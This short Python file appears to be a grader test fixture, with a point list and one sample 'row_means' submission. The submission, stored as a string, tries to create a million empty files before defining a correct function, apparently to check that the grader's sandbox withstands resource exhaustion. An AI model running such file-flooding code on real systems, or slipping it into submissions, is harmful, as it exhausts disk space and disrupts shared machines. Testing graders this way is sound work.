"""Makes files without end."""

POINTS = [4, 3, 2]

ANSWERS = {
    "row_means": """
try:
    for number in range(10**6):
        open(f"file{number}", "w").close()
except OSError as error:
    print(error.errno)
def row_means(A):
    return np.mean(A, axis=1)
"""
}
